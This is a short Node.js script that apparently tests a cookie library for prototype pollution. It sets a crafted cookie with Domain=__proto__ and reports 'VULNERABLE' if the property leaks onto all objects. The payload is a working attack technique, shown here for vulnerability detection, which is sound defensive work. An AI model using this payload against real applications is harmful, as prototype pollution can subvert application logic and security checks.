const m = require(process.argv[2]);
const j = new m.CookieJar(undefined, { rejectPublicSuffixes: false });
j.setCookieSync('polluted=x; Domain=__proto__; Path=/polluted', 'https://__proto__/admin');
const r = {}['/polluted'];
console.log(r ? 'VULNERABLE' : 'ok');
process.exit(r ? 1 : 0);
